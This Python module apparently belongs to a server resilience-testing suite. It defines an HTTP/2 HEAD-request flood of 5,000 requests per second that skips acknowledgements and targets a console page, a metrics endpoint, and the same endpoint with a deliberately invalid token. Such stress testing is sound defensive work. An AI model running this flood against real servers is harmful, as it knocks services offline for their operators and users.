"""Attacks by requests for what is read by its path, and is no call."""

from attacks import frames
from attacks.outcome import Outcome
from attacks.target import Target

PER_CHUNK = 50
REQUESTS = 5_000


def read_again(target: Target, path: str, token: str | None = None) -> Outcome:
    """The same again and again, faster than it is answered. HEAD costs the server what GET does,
    and needs no window for what comes of it."""
    fields = [(":method", "HEAD"), (":scheme", "http"), (":path", path)]
    fields.append((":authority", "localhost"))
    if token is not None:
        fields.append(("authorization", f"Bearer {token}"))
    first, again = frames.repeatable(fields)

    def chunk(at: int) -> bytes:
        streams = range(1 + 2 * PER_CHUNK * at, 1 + 2 * PER_CHUNK * (at + 1), 2)
        return b"".join(
            frames.headers(n, first if n == 1 else again, end_stream=True) for n in streams
        )

    with target.connect(acknowledges=False) as attacker:
        return attacker.flood(chunk, REQUESTS // PER_CHUNK, seconds=1)


def pages(target: Target, hold: float) -> Outcome:
    """The console, by nobody."""
    return read_again(target, "/")


def figures(target: Target, hold: float) -> Outcome:
    """The server's figures, which are made anew each time."""
    return read_again(target, "/metrics")


def figures_of_strangers(target: Target, hold: float) -> Outcome:
    """The same with a token that is no good, which is looked at each time."""
    return read_again(target, "/metrics", target.token[:-4] + "AAAA")
